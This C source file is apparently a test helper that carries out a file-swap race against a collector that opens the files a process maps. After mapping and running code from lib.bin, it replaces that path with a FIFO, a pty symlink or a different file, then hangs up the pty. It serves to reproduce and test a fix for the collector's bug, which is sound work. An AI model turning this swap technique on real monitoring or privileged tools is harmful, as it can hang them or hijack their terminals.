/* swap_mapped DIR MODE SECONDS: the attack on how the collector opens the
 * files a process maps (issue 16).  Maps DIR/lib.bin executable and
 * blocks inside it, so the collector reads our maps and learns lib.bin;
 * unmaps it and puts at that path, by MODE:
 *   fifo  a FIFO (an open for reading blocks until a writer comes),
 *   pty   a symlink to a pty slave we own (a session leader without a
 *         terminal that opens it takes it as its controlling terminal),
 *   file  another regular file (a different inode, renamed over it);
 * then spins for SECONDS, so samples with stack copies are unwound with
 * the maps that still name lib.bin.  For pty it then closes the master:
 * a hangup to whoever has the pty as controlling terminal.
 * Prints "PID=n" and "SWAPPED" lines on stdout. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

/* mov eax,35 (nanosleep); syscall; ret */
static const unsigned char code[] = { 0xb8, 0x23, 0, 0, 0, 0x0f, 0x05, 0xc3 };

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	char lib[512];
	unsigned char page[4096] = { 0 };
	int master = -1, fd;

	if (argc < 4)
		return 2;
	snprintf(lib, sizeof(lib), "%s/lib.bin", argv[1]);
	if (!strcmp(argv[2], "pty")) {
		master = posix_openpt(O_RDWR | O_NOCTTY);
		if (master < 0 || grantpt(master) || unlockpt(master))
			return 3;
	}
	unlink(lib);
	fd = open(lib, O_RDWR | O_CREAT | O_TRUNC, 0755);
	memcpy(page, code, sizeof(code));
	if (fd < 0 || write(fd, page, sizeof(page)) != sizeof(page))
		return 4;
	void *p = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
	close(fd);
	if (p == MAP_FAILED)
		return 5;
	long (*sleepfn)(struct timespec *, struct timespec *) = p;
	printf("PID=%d\n", getpid());
	fflush(stdout);
	for (int i = 0; i < 6; i++) {
		struct timespec ts = { 0, 150 * 1000 * 1000 };
		sleepfn(&ts, NULL);
	}
	munmap(p, 4096);
	if (!strcmp(argv[2], "file")) {
		/* made while lib.bin still exists, so not on its inode (ext4
		 * hands a freed inode number out again at once) */
		char tmp[600];

		snprintf(tmp, sizeof(tmp), "%s.new", lib);
		fd = open(tmp, O_RDWR | O_CREAT | O_TRUNC, 0755);
		if (fd < 0 || write(fd, page, sizeof(page)) != sizeof(page) || rename(tmp, lib))
			return 7;
		close(fd);
	} else {
		unlink(lib);
	}
	if (!strcmp(argv[2], "fifo")) {
		mkfifo(lib, 0666);
	} else if (!strcmp(argv[2], "pty")) {
		if (symlink(ptsname(master), lib))
			return 6;
	}
	printf("SWAPPED %s\n", argv[2]);
	fflush(stdout);
	double t0 = now();
	volatile unsigned long x = 0;
	while (now() - t0 < atof(argv[3]))
		x++;
	if (master >= 0)
		close(master);  /* the hangup */
	return 0;
}
